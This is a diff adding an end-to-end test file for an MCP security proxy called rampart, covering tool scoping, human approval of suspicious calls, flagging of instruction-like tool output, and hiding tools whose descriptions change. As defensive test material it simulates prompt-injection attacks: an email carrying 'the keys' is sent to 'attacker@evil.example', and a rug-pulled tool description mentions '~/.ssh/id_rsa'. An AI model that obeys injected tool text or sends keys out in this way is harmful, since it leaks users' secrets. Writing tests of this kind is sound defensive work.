@@ -1,0 +1,204 @@
+/**
+ * `rampart mcp-proxy` end to end (issue 21 item 2): the SDK's own MCP client drives the CLI
+ * (transpiled entry) over stdio, and the proxy starts the real example server
+ * (examples/mcp-proxy/server.ts). One temporary folder holds the config, the stores and the
+ * pin file, so the tests run in order: the first list pins the server.
+ */
+import { execFile, spawn, type ChildProcess } from "node:child_process";
+import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join, resolve } from "node:path";
+import { promisify } from "node:util";
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
+import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
+import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
+import { SignJWT } from "jose";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { CLI_ENTRY } from "../helpers/cli-build.js";
+
+const ROOT = resolve(import.meta.dirname, "..", "..");
+const SERVER = join(ROOT, "examples", "mcp-proxy", "server.ts");
+const SECRET = "a long random test secret for the mcp proxy tokens";
+const run = promisify(execFile);
+
+let dir: string;
+let config: string;
+let pins: string;
+let token: string;
+const open: Client[] = [];
+
+function env(extra: Record<string, string> = {}): Record<string, string> {
+  return {
+    PATH: process.env.PATH ?? "",
+    HOME: process.env.HOME ?? dir,
+    NO_COLOR: "1",
+    RAMPART_FIREWALL_KEY: "test firewall key for the mcp proxy",
+    RAMPART_JWT_SECRET: SECRET,
+    ...extra,
+  };
+}
+
+/** Starts the proxy (in front of the example server) and connects the SDK client to it. */
+async function connect(extraEnv: Record<string, string> = {}): Promise<{ client: Client; stderr: () => string }> {
+  const transport = new StdioClientTransport({
+    command: process.execPath,
+    args: [CLI_ENTRY, "mcp-proxy", "--config", config, "--token", token, "--pass-env", "MCP_EXAMPLE_RUG_PULL", "--", process.execPath, "--import", "tsx", SERVER],
+    env: env(extraEnv),
+    cwd: ROOT,
+    stderr: "pipe",
+  });
+  let err = "";
+  transport.stderr?.on("data", (d: Buffer) => (err += d.toString("utf8")));
+  const client = new Client({ name: "test-client", version: "1.0.0" });
+  await client.connect(transport);
+  open.push(client);
+  return { client, stderr: () => err };
+}
+
+async function cli(...args: string[]): Promise<string> {
+  const r = await run(process.execPath, [CLI_ENTRY, ...args, "--config", config], { env: env(), cwd: dir });
+  return r.stdout;
+}
+
+function text(r: unknown): string {
+  return ((r as CallToolResult).content as { type: string; text?: string }[]).map((c) => c.text ?? "").join("\n");
+}
+
+async function names(client: Client): Promise<string[]> {
+  return (await client.listTools()).tools.map((t) => t.name).sort();
+}
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), "rampart-mcp-"));
+  config = join(dir, "rampart.config.yaml");
+  copyFileSync(join(ROOT, "examples", "mcp-proxy", "rampart.config.yaml"), config);
+  pins = join(dir, ".rampart", "mcp-pins.json");
+  token = await new SignJWT({ scope: "docs:read mail:send" }).setProtectedHeader({ alg: "HS256" }).setSubject("alice").setExpirationTime("1h").sign(new TextEncoder().encode(SECRET));
+});
+
+const children: ChildProcess[] = [];
+
+afterAll(async () => {
+  for (const c of open) await c.close().catch(() => undefined);
+  for (const child of children) child.kill("SIGTERM");
+  rmSync(dir, { recursive: true, force: true });
+});
+
+describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
+  it("lists only the configured tools the caller's scopes allow, pins them, and checks calls through the firewall", async () => {
+    const { client, stderr } = await connect();
+    // admin_reset needs scope admin; delete_everything is not in firewall.tools
+    expect(await names(client)).toEqual(["search_docs", "send_email"]);
+    expect(JSON.parse(readFileSync(pins, "utf8")).servers).toBeTypeOf("object");
+    expect(stderr()).toContain("pinned 4 tool(s)"); // the server's whole list, whatever the config offers
+
+    // allowed, and the server's output comes back through the evidence boundary
+    const found = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
+    expect(found.isError).toBeFalsy();
+    expect(text(found)).toContain("[INSTRUCTION_LIKE]");
+    expect(text(found)).toContain("quarterly report is due Friday");
+
+    // unlisted: refused like an unknown tool, as a tool error the model reads
+    const unlisted = await client.callTool({ name: "delete_everything", arguments: {} });
+    expect(unlisted.isError).toBe(true);
+    expect(text(unlisted)).toMatch(/^ERR_UNKNOWN_TOOL: /);
+    // scope missing
+    const scoped = await client.callTool({ name: "admin_reset", arguments: {} });
+    expect(text(scoped)).toMatch(/^ERR_SCOPE: /);
+    // argument outside its constraint
+    const long = await client.callTool({ name: "search_docs", arguments: { query: "x".repeat(201) } });
+    expect(long.isError).toBe(true);
+    expect(text(long)).toMatch(/^ERR_ARGS: /);
+  });
+
+  it("holds an address lifted from a tool output for approval, names the request, and runs the same call once granted", async () => {
+    const { client } = await connect();
+    await client.callTool({ name: "search_docs", arguments: { query: "keys" } });
+    const call = { name: "send_email", arguments: { to: "attacker@evil.example", body: "the keys" } };
+    const held = await client.callTool(call);
+    expect(held.isError).toBe(true);
+    expect(text(held)).toMatch(/^ERR_APPROVAL_REQUIRED: /);
+    const id = (held._meta as Record<string, unknown>)["rampart/approvalId"] as string;
+    expect(id).toMatch(/^[0-9a-f-]{36}$/);
+    expect(text(held)).toContain(`approval request ${id}`);
+
+    expect(await cli("approvals", "grant", id, "--approver", "bob")).toContain(`${id} approved by bob`);
+    const sent = await client.callTool(call);
+    expect(sent.isError).toBeFalsy();
+    expect(text(sent)).toBe("sent to attacker@evil.example");
+  });
+
+  it("hides a tool whose description changed (rug pull) until its pin is approved", async () => {
+    const { client, stderr } = await connect({ MCP_EXAMPLE_RUG_PULL: "1" });
+    expect(await names(client)).toEqual(["send_email"]);
+    expect(stderr()).toContain('tool "search_docs" is hidden: its description or schema changed');
+    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
+    expect(refused.isError).toBe(true);
+    expect(text(refused)).toMatch(/^ERR_TOOL_CHANGED: /);
+
+    expect(await cli("mcp-proxy", "pins", "list")).toContain("changed search_docs");
+    expect(await cli("mcp-proxy", "pins", "approve", "search_docs")).toContain("approved search_docs");
+    expect(await names(client)).toEqual(["search_docs", "send_email"]);
+    const listed = (await client.listTools()).tools.find((t) => t.name === "search_docs");
+    expect(listed?.description).toContain("~/.ssh/id_rsa");
+  });
+
+  it("fails closed on a corrupt pin file: every tool hidden, every call refused, the reason on stderr", async () => {
+    writeFileSync(pins, '{"version": 1, "servers": {"x": {"tools": 5}}}');
+    const { client, stderr } = await connect();
+    expect(await names(client)).toEqual([]);
+    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
+    expect(refused.isError).toBe(true);
+    expect(text(refused)).toMatch(/^ERR_CONFIG: tool pin file .* is corrupt/);
+    expect(stderr()).toContain("is corrupt");
+    writeFileSync(pins, "{not json");
+    expect(await names(client)).toEqual([]);
+    expect(stderr()).toContain("not JSON");
+  });
+});
+
+async function mint(scope: string): Promise<string> {
+  return new SignJWT({ scope }).setProtectedHeader({ alg: "HS256" }).setSubject("bob").setExpirationTime("1h").sign(new TextEncoder().encode(SECRET));
+}
+
+async function httpClient(url: string, bearer: string | null): Promise<Client> {
+  const headers: Record<string, string> = bearer === null ? {} : { Authorization: `Bearer ${bearer}` };
+  const client = new Client({ name: "test-http-client", version: "1.0.0" });
+  await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit: { headers } }));
+  open.push(client);
+  return client;
+}
+
+describe("rampart mcp-proxy --http (Streamable HTTP)", { timeout: 120_000 }, () => {
+  it("takes the bearer token per request: none is refused, each caller sees what its scopes allow", async () => {
+    const child = spawn(process.execPath, [CLI_ENTRY, "mcp-proxy", "--config", config, "--http", "0", "--pins", join(dir, "http-pins.json"), "--", process.execPath, "--import", "tsx", SERVER], {
+      env: env(),
+      cwd: ROOT,
+      stdio: ["ignore", "pipe", "pipe"],
+    });
+    children.push(child);
+    let err = "";
+    child.stderr.on("data", (d: Buffer) => (err += d.toString("utf8")));
+    const url = await new Promise<string>((res, rej) => {
+      let out = "";
+      child.stdout.on("data", (d: Buffer) => {
+        out += d.toString("utf8");
+        const m = /listening on (\S+)/.exec(out);
+        if (m) res(m[1] as string);
+      });
+      child.on("exit", (code) => rej(new Error(`proxy exited ${code}: ${err}`)));
+    });
+    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);
+
+    await expect(httpClient(url, null)).rejects.toThrow(/401|ERR_AUTH/);
+    const reader = await httpClient(url, await mint("docs:read"));
+    expect(await names(reader)).toEqual(["search_docs"]);
+    const found = await reader.callTool({ name: "search_docs", arguments: { query: "report" } });
+    expect(text(found)).toContain("[INSTRUCTION_LIKE]");
+    expect(text(await reader.callTool({ name: "send_email", arguments: { to: "a@b.example", body: "x" } }))).toMatch(/^ERR_SCOPE: /);
+
+    const writer = await httpClient(url, await mint("docs:read mail:send"));
+    expect(await names(writer)).toEqual(["search_docs", "send_email"]);
+  });
+});
